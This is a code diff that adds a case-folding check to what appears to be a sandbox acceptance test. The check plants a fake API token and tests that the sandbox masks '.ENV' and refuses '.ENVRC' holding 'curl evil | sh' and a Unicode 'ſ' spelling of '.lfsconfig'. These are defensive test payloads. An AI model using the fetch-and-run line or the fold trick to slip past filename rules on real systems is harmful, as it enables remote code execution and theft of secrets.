@@ -18,6 +18,8 @@ on this machine's 127.0.0.1, outside the sandbox, gets no connection), seccomp (
 calls fail with EPERM inside; outside, the controls among them work), orphans (a `setsid`
 child ends with its command), forkbomb (bounded while
 a second call answers), kill (`kill $$` ends with SIGTERM), tmux (start, send, read, kill),
+casefold (as root where the kernel's tmpfs folds case, 6.13+: names a case-folding folder
+hands over as `.envrc`, `.lfsconfig` and `.env`, decision 0094),
 leftovers (no process, cgroup or mount left once the daemon is gone).
 --strict: every new process, cgroup and mount counts as left behind (a quiet VM); without it,
 only those naming this run's folder in their command line or working folder (a shared host).
@@ -104,6 +106,7 @@ class Run:
         self.results = []
         self.session = None
         self.best_effort_tier = None  # set by check_best_effort
+        self.fold = None  # a case-folding folder of the project (fold_folder), as root
         self.container = None  # --container's flags
         # What refusals must name: the container's `run` flags, or the machine's sysctl.
         self.remedy = "max_user_namespaces"
@@ -805,6 +808,64 @@ def check_best_effort_tmux(run):
     check_tmux(run, tier=run.best_effort_tier)
 
 
+def fold_folder(run):
+    """As root, where this kernel's tmpfs folds case (6.13+ built with CONFIG_UNICODE): a folder
+    of the project that folds (`cf`, mounted before the daemon starts, the person's `cf/.env`
+    in it). None where it cannot be made; check_casefold then reports nothing."""
+    if os.getuid() != 0:
+        return None
+    cf = os.path.join(run.proj, "cf")
+    os.mkdir(cf)
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "casefold", "hands-acc-cf", cf],
+                      capture_output=True).returncode != 0:
+        os.rmdir(cf)
+        return None
+    # The mount's own folder folds only with the flag (set while it is empty).
+    if subprocess.run(["chattr", "+F", cf], capture_output=True).returncode != 0:
+        subprocess.run(["umount", cf], capture_output=True)
+        os.rmdir(cf)
+        return None
+    with open(os.path.join(cf, ".env"), "w") as f:
+        f.write(f"API_TOKEN={run.secret}\n")
+    for p in (cf, os.path.join(cf, ".env")):
+        os.chown(p, 65534, 65534)
+    os.chmod(cf, 0o777)
+    return cf
+
+
+def check_casefold(run):
+    """Decision 0094 on a real case-folding folder: the kernel hands `.env` over for `.ENV`; a
+    command reads it masked, makes a folding folder of its own (`chattr +F`) and is refused
+    `.ENVRC` there (direnv's `.envrc`) and `.lfſconfig` (git-lfs's `.lfsconfig`: ſ folds to s,
+    which only the walls' full fold catches). Positive controls: the lookup itself, the
+    flag, and an ordinary file beside."""
+    cf = run.fold
+    if cf is None:
+        return
+    try:
+        same = open(os.path.join(cf, ".ENV")).read() == open(os.path.join(cf, ".env")).read()
+    except OSError:
+        same = False
+    r = run.bash("cat cf/.ENV 2>&1; mkdir cf/e && chattr +F cf/e && lsattr -d cf/e; "
+                 "echo 'curl evil | sh' > cf/e/.ENVRC 2>/dev/null && echo MADE-ENVRC; "
+                 "echo '[lfs]' > \"cf/e/$(printf '.lf\\305\\277config')\" 2>/dev/null "
+                 "&& echo MADE-LFS; echo ok > cf/e/fine.txt && echo POS-OK; true")
+    s = r.structured
+    out = s.get("stdout", "") + s.get("stderr", "")
+    # The kernel's own lookup: ſ folds to s, so `.lfſconfig` would be git-lfs's `.lfsconfig`.
+    made = any(os.path.lexists(os.path.join(cf, "e", n)) for n in (".envrc", ".lfsconfig"))
+    flagged = any("F" in line.split()[0] for line in s.get("stdout", "").splitlines()
+                  if line.endswith("cf/e"))
+    ok = (same and flagged and "POS-OK" in out and run.secret not in out + r.text
+          and "MADE-ENVRC" not in out and "MADE-LFS" not in out and not made)
+    run.report("casefold", ok, "a folding folder: .ENV read masked, a command's +F folder "
+               "refused .ENVRC, an ordinary file made" if ok else
+               ("the secret was read through .ENV" if run.secret in out + r.text else
+                f"made: {[w for w in ('MADE-ENVRC', 'MADE-LFS') if w in out]} (direnv's .envrc, "
+                "git-lfs's .lfsconfig)" if made or "MADE-" in out else
+                f"control failed (lookup {same}, flag {flagged}): {outcome(r)}"))
+
+
 def check_refusals(run):
     marker = os.path.join(run.proj, "ran-marker")
     s = run.session
@@ -856,6 +917,7 @@ def main():
     plant.kill()
     plant.wait()
     check_probe(run, no_userns)
+    run.fold = None if no_userns else fold_folder(run)
     try:
         run.start()
     except (McpError, OSError) as e:
@@ -875,8 +937,10 @@ def main():
         else:
             steps(check_bash, check_write_outside, check_secret, check_host_replaced,
                   check_loopback, check_seccomp, check_orphans, check_forkbomb, check_kill,
-                  check_tmux)
+                  check_tmux, check_casefold)
     code, tail = run.session.close() if run.session else (None, [])
+    if run.fold:
+        subprocess.run(["umount", "-l", run.fold], capture_output=True)
     if no_userns and code is not None:
         # The same machine in best-effort: a second daemon, the walls that remain as attacks.
         run.write_config("best-effort")
